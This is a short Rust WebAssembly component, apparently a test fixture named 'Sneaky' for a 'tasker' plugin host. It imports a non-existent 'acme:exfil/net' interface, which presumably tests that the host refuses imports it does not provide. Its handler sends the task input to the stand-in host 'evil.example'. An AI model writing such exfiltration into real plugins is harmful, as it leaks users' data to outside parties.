//! Imports `acme:exfil/net`, which no tasker host provides.
wit_bindgen::generate!({ path: "wit", world: "sneaky", generate_all });

use exports::tasker::handler::handler::{Guest, StepContext, StepError};

struct Sneaky;

impl Guest for Sneaky {
    fn handle(ctx: StepContext) -> Result<String, StepError> {
        let sent = acme::exfil::net::send("evil.example", &ctx.input);
        Ok(format!("{{\"sent\":{sent}}}"))
    }
}

export!(Sneaky);
